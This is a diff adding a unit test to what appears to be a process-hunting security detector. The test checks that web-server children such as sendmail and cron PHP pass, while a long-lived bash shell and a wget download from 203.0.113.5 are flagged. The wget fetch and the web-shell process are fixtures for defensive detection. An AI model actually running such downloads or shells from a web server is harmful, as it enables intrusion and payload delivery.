@@ -170,3 +170,46 @@ test("kernel-thread names: a bracketed or per-CPU name on a real executable is m
   assert.equal(findings.find((f) => f.data?.pid === 100)?.check, "process.masquerade");
   assert.ok(!findings.some((f) => f.data?.pid === 101 || f.data?.pid === 102));
 });
+
+test("web server user: PHP's short sh -c sendmail and www-data's cron PHP are normal; a long-lived or networked shell is not", () => {
+  const web = { user: "www-data", parentComm: "apache2", parentExe: "/usr/sbin/apache2" };
+  const mail = proc({
+    ...web,
+    comm: "sh",
+    exe: "/usr/bin/dash",
+    argv: ["sh", "-c", "/usr/sbin/sendmail -t -i"],
+    ageSeconds: 1,
+  });
+  const cronPhp = proc({
+    pid: 101,
+    user: "www-data",
+    parentComm: "cron",
+    comm: "php",
+    exe: "/usr/bin/php8.2",
+    argv: ["php", "-f", "/var/www/nextcloud/cron.php"],
+    ageSeconds: 240,
+  });
+  const shell = proc({
+    ...web,
+    pid: 102,
+    comm: "bash",
+    exe: "/usr/bin/bash",
+    argv: ["bash"],
+    ageSeconds: 900,
+  });
+  const wget = proc({
+    ...web,
+    pid: 103,
+    comm: "wget",
+    exe: "/usr/bin/wget",
+    argv: ["wget", "http://203.0.113.5/x"],
+    ageSeconds: 2,
+  });
+  const findings = checkHunt(input([mail, cronPhp, shell, wget]), ctx);
+  assert.ok(
+    !findings.some((f) => f.data?.pid === 100 || f.data?.pid === 101),
+    JSON.stringify(findings.map((f) => f.title)),
+  );
+  assert.equal(findings.find((f) => f.data?.pid === 102)?.check, "process.webshell-child");
+  assert.equal(findings.find((f) => f.data?.pid === 103)?.severity, "high");
+});
